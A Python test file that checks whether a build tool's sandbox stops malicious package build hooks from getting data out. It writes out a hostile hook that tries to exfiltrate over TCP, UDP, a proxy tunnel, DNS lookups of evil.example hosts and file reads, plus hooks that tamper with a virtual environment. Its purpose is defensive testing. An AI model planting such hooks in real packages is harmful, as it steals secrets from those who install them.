"""A package whose build code wants to get something out, in a build that lets nothing out."""

from __future__ import annotations

import json
import socket
import subprocess
import sys
import threading
from collections.abc import Iterator
from contextlib import ExitStack
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from nunatak.confinement.bubblewrap import CHOICE_VARIABLE, sandbox
from nunatak.confinement.policy import Confinement
from nunatak.errors import BuildFailed
from nunatak.images.building import workshop
from nunatak.images.building.buildlog import BuildLog, read_log
from nunatak.images.building.indexes import Indexes
from nunatak.images.building.isolation import isolation
from nunatak.images.building.uv import Uv, find_uv
from nunatak.images.image import ImageBuilder
from nunatak.images.requirements.declared import Declared, TargetPlatform
from support.environments import make_environment
from support.packages import index, source_distribution, wheel

pytestmark = pytest.mark.process

PYTHON = ".".join(map(str, sys.version_info[:2]))

ATTACK = """
import os, socket, urllib.request
report = {}
def attempt(name, action):
    try:
        report[name] = "GOT OUT: " + repr(action())
    except BaseException as error:
        report[name] = type(error).__name__
def tcp():
    socket.create_connection(("127.0.0.1", @TCP@), 3).sendall(b"secret")
    return "connected"
def abstract():
    with socket.socket(socket.AF_UNIX) as attacker:
        attacker.connect(b"\\0@ABSTRACT@")
    return "connected"
def fetch(address):
    return urllib.request.urlopen(address, timeout=5).status
def tunnel(target):
    from urllib.parse import urlsplit
    import base64
    proxy = urlsplit(os.environ["HTTPS_PROXY"])
    pair = base64.b64encode((proxy.username + ":" + proxy.password).encode()).decode()
    with socket.create_connection((proxy.hostname, proxy.port), 5) as channel:
        head = "CONNECT %s HTTP/1.1\\r\\nProxy-Authorization: Basic %s\\r\\n\\r\\n"
        channel.sendall((head % (target, pair)).encode())
        answer = channel.recv(100)
    if b" 200 " not in answer:
        raise PermissionError(answer)
    return answer
def udp():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as channel:
        channel.settimeout(1)
        channel.sendto(b"secret", ("127.0.0.1", @UDP@))
        return channel.recv(10)
attempt("raw tcp", tcp)
attempt("abstract socket", abstract)
attempt("plain proxy", lambda: fetch("http://evil.example/"))
attempt("tls proxy", lambda: fetch("https://evil.example/"))
attempt("tunnel", lambda: tunnel("127.0.0.1:@TCP@"))
attempt("udp", udp)
attempt("dns", lambda: socket.getaddrinfo("secret.evil.invalid", 443))
attempt("read", lambda: open("@SECRET@").read())
attempt("cache", lambda: os.listdir("@CACHE@"))
attempt("kill", lambda: os.kill(@PID@, 0))
attempt("write", lambda: open("@CACHE@/poison", "w"))
import json
FILES["attacker.py"] = "REPORT = " + repr(json.dumps(report))
"""

EXPECTED = {
    "raw tcp": "ConnectionRefusedError",
    "abstract socket": "ConnectionRefusedError",
    "plain proxy": "HTTPError",
    "tls proxy": "URLError",
    "tunnel": "PermissionError",
    "udp": "TimeoutError",
    "dns": "gaierror",
    "read": "FileNotFoundError",
    "cache": "FileNotFoundError",
    "kill": "ProcessLookupError",
    "write": "FileNotFoundError",
}
"""How each attempt ends inside the sandbox: every one by being kept from its goal."""


@dataclass
class Canaries:
    """Sockets on this machine that nothing in the sandbox may reach."""

    stack: ExitStack = field(default_factory=ExitStack)
    abstract: str = "nunatak-test-canary"

    def __post_init__(self) -> None:
        self.tcp = self.stack.enter_context(socket.create_server(("127.0.0.1", 0)))
        self.udp = self.stack.enter_context(socket.socket(socket.AF_INET, socket.SOCK_DGRAM))
        self.udp.bind(("127.0.0.1", 0))
        self.unix = self.stack.enter_context(socket.socket(socket.AF_UNIX))
        self.unix.bind(f"\0{self.abstract}")
        self.unix.listen()
        for one in (self.tcp, self.udp, self.unix):
            one.setblocking(False)

    def quiet(self) -> bool:
        """Whether nobody came to any of them."""
        for one in (self.tcp.accept, self.unix.accept, lambda: self.udp.recv(10)):
            try:
                one()
            except BlockingIOError:
                continue
            return False
        return True


@pytest.fixture
def canaries() -> Iterator[Canaries]:
    found = Canaries()
    with found.stack:
        yield found


def attack(canaries: Canaries, root: Path) -> str:
    values: dict[str, object] = {
        "TCP": canaries.tcp.getsockname()[1],
        "UDP": canaries.udp.getsockname()[1],
        "ABSTRACT": canaries.abstract,
        "SECRET": root / "home" / "secret.txt",
        "CACHE": root / "cache",
    }
    text = ATTACK.replace("@PID@", str(threading.get_native_id()))
    for name, value in values.items():
        text = text.replace(f"@{name}@", str(value))
    return text


@pytest.fixture(params=["bubblewrap", "namespaces"])
def confined(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    """Each program that can make a sandbox here."""
    monkeypatch.setenv(CHOICE_VARIABLE, request.param)
    sandbox.cache_clear()
    if not isolation().available:
        pytest.skip(isolation().detail)
    yield
    monkeypatch.undo()
    sandbox.cache_clear()


@pytest.mark.usefixtures("confined")
def test_a_build_hook_gets_nothing_out(tmp_path: Path, canaries: Canaries) -> None:
    shop, home = tmp_path / "shop", tmp_path / "home"
    home.mkdir()
    (home / "secret.txt").write_text("the secret")
    source_distribution(shop, "attacker", "1.0", hook=attack(canaries, tmp_path))
    with index(shop) as address, BuildLog(tmp_path / "build.log") as log:
        builder = ImageBuilder(
            home, indexes=Indexes(default=address), uv=Uv(find_uv(), tmp_path / "cache")
        )
        declared = Declared(target=TargetPlatform.CPU, python=PYTHON, pip=("attacker",))
        environment = make_environment(builder, declared, log)

    text = read_log(log.path)[0]
    code = "import attacker; print(attacker.REPORT)"
    printed = subprocess.run(
        [str(environment.python), "-I", "-c", code], capture_output=True, text=True, check=True
    )
    report = json.loads(printed.stdout)
    assert report == EXPECTED
    assert canaries.quiet()
    for host in (
        "evil.example:80",
        "evil.example:443",
        f"127.0.0.1:{canaries.tcp.getsockname()[1]}",
    ):
        assert f"egress REFUSED: {host}" in text
    assert not (tmp_path / "cache" / "poison").exists()


@pytest.mark.skipif(not isolation().available, reason=isolation().detail)
@pytest.mark.parametrize(
    "change",
    [
        "open(venv + '/pyvenv.cfg', 'a').write('home = @HOME@/keys/bin')",
        "os.remove(venv + '/bin/python'); os.symlink('@HOME@/keys/x', venv + '/bin/python')",
        "os.rename(venv + '/bin', venv + '/x'); os.symlink('@HOME@', venv + '/bin')",
    ],
)
def test_a_build_hook_that_changes_what_models_may_read_makes_no_environment(
    tmp_path: Path, change: str
) -> None:
    shop, home = tmp_path / "shop", tmp_path / "home"
    hook = "import os\nvenv = os.path.dirname(os.environ['TMPDIR']) + '/venv'\n"
    hook += f"if os.path.exists(venv + '/pyvenv.cfg'):\n    {change.replace('@HOME@', str(home))}\n"
    source_distribution(shop, "changer", "1.0", hook=hook)
    with index(shop) as address, BuildLog(tmp_path / "build.log") as log:
        builder = ImageBuilder(
            home, indexes=Indexes(default=address), uv=Uv(find_uv(), tmp_path / "cache")
        )
        declared = Declared(target=TargetPlatform.CPU, python=PYTHON, pip=("changer",))
        with pytest.raises(BuildFailed):
            make_environment(builder, declared, log)
    assert list((home / "environments").glob("*/environment.json")) == []


def test_without_namespaces_the_proxy_still_stands_and_the_log_says_so(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    missing = Confinement("no namespaces here", allow_unconfined=True)
    monkeypatch.setattr(workshop, "isolation", lambda **_: missing)
    shop = tmp_path / "shop"
    wheel(shop, "beta", "1.0")
    hook = "import urllib.request\ntry:\n    urllib.request.urlopen('http://evil.example/')\n"
    source_distribution(shop, "curious", "1.0", hook=hook + "except OSError:\n    pass")
    with index(shop) as address, BuildLog(tmp_path / "build.log") as log:
        builder = ImageBuilder(
            tmp_path / "home", indexes=Indexes(default=address), uv=Uv(find_uv(), tmp_path / "c")
        )
        declared = Declared(target=TargetPlatform.CPU, python=PYTHON, pip=("curious", "beta"))
        make_environment(builder, declared, log)
    text = read_log(log.path)[0]
    assert "warning: models and builds are NOT confined" in text
    assert "no namespaces here" in text
    assert "egress REFUSED: evil.example:80" in text
